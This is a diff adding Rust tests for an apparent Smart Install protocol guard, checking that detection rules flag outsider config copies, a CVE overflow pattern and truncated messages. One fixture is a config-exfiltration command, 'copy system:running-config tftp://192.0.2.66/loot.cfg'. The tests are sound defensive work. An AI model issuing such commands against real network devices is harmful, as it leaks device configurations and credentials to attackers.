@@ -324,3 +324,76 @@ fn detail_names_every_audit_field() {
     assert_eq!(detail["direction"], "director_to_client");
     assert_eq!(detail["urls"][0], "tftp://127.0.0.1/backup.cfg");
 }
+
+fn lab_detector() -> crate::inspect::detector::Detector {
+    use crate::inspect::knowledge::Knowledge;
+    let policy = crate::config::lab_default().policy;
+    crate::inspect::detector::Detector::new(
+        crate::config::rules::builtin().unwrap(),
+        Knowledge::from_policy(&policy.smart_install),
+    )
+}
+
+fn detected(inspection: &Inspection) -> Vec<&str> {
+    inspection
+        .detections
+        .iter()
+        .map(|d| d.rule.as_str())
+        .collect()
+}
+
+#[test]
+fn detections_name_the_rules_each_verdict_matched() {
+    let policy = lab();
+    let detector = lab_detector();
+    // An outsider's exfiltration: the connection and the message each match their rules.
+    let mut guard = Guard::new(&policy, endpoints("192.0.2.66"), Limits::default())
+        .with_detector(Some(&detector));
+    let bytes = copy(&["copy system:running-config tftp://192.0.2.66/loot.cfg"]);
+    let actions = guard.on_bytes(Flow::DirectorToClient, &bytes);
+    let audit = audits(&actions);
+    assert_eq!(
+        detected(audit[0]),
+        ["si-non-director", "si-get-config", "si-url-host-not-allowed"]
+    );
+    let detail = audit[0].detail();
+    assert_eq!(detail["detections"][1]["rule"], "si-get-config");
+    assert_eq!(detail["detections"][1]["severity"], "critical");
+
+    // The director's backup to the allowed server matches nothing, however often.
+    let mut guard = Guard::new(&policy, endpoints("127.0.0.1"), Limits::default())
+        .with_detector(Some(&detector));
+    let two = [copy(&[BACKUP]), copy(&[BACKUP])].concat();
+    let actions = guard.on_bytes(Flow::DirectorToClient, &two);
+    assert!(audits(&actions).iter().all(|i| i.detections.is_empty()));
+}
+
+#[test]
+fn detections_cover_decode_errors_and_the_cve_pattern() {
+    let policy = lab();
+    let detector = lab_detector();
+    let mut guard = Guard::new(&policy, endpoints("127.0.0.1"), Limits::default())
+        .with_detector(Some(&detector));
+    let actions = guard.on_bytes(Flow::DirectorToClient, &cve_init_discovery());
+    let audit = audits(&actions);
+    assert_eq!(audit.len(), 1);
+    assert!(
+        detected(audit[0]).contains(&"si-tlv-overflow"),
+        "{:?}",
+        audit[0].detections
+    );
+
+    // A message cut short by the end of the stream.
+    let mut guard = Guard::new(&policy, endpoints("127.0.0.1"), Limits::default())
+        .with_detector(Some(&detector));
+    let bytes = copy(&[BACKUP]);
+    let half = bytes.get(..40).unwrap();
+    assert!(audits(&guard.on_bytes(Flow::DirectorToClient, half)).is_empty());
+    let actions = guard.on_close(Flow::DirectorToClient);
+    assert_eq!(detected(audits(&actions)[0]), ["si-length-mismatch"]);
+
+    // Without a detector, verdicts carry no detections.
+    let mut guard = Guard::new(&policy, endpoints("192.0.2.66"), Limits::default());
+    let actions = guard.on_bytes(Flow::DirectorToClient, &copy(&[BACKUP]));
+    assert!(audits(&actions)[0].detections.is_empty());
+}
